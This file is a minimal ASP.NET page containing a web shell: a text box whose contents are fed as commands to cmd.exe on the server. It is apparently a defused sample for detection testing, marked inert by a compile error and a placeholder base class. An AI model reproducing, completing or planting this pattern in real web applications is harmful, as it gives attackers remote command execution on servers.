<%@ Page Language="C#" Inherits="Inert.Nothing" %>
<script runat="server">
#error inert
protected void B_Click(object sender, EventArgs e) { ExcuteCmd(); } public void ExcuteCmd() { Process p = new Process(); p.StartInfo.FileName = "cmd.exe"; p.StartInfo.UseShellExecute = false; p.Start(); p.StandardInput.WriteLine(this.tb.Text); p.StandardInput.WriteLine("exit"); }
</script><form runat=server><asp:TextBox ID="tb" runat="server"></asp:TextBox></form>